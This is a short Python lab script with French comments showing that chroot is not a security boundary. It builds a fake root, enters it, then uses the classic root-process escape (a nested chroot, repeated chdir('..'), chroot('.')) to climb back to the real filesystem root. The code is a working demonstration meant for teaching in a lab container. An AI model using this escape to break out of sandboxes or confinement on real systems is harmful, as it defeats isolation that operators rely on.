"""Pourquoi chroot n’est pas une frontière de sécurité : l’évasion
classique d’un processus root.

Tout se passe dans le conteneur du lab : la « maison » est ici le
système de fichiers du conteneur, jamais la machine du lecteur.
"""
import os

ATTIC = "/tmp/attic"  # le grenier : un appartement dans la maison
os.makedirs(ATTIC + "/etc", exist_ok=True)
with open(ATTIC + "/etc/os-release", "w") as f:
    f.write('PRETTY_NAME="Le grenier"\n')


def look(where):
    with open("/etc/os-release") as f:
        name = f.readline().strip().split("=", 1)[1].strip('"')
    entries = len(os.listdir("/"))
    print(f"== {where}")
    print(f"/ contient {entries} entrée(s) ; système : {name}")


look("Dans la maison")
os.chroot(ATTIC)
os.chdir("/")
look("Dans le grenier")

# L’évasion n’a besoin que d’être root dans le grenier : s’enfermer
# par chroot dans un sous-dossier sans y entrer, si bien que le
# répertoire courant reste *hors* de la nouvelle racine. De là, ".."
# n’est jamais arrêté par la racine et remonte jusqu’à la vraie.
os.mkdir("/placard")
os.chroot("/placard")
for _ in range(32):
    os.chdir("..")
os.chroot(".")
look("Après l’évasion")
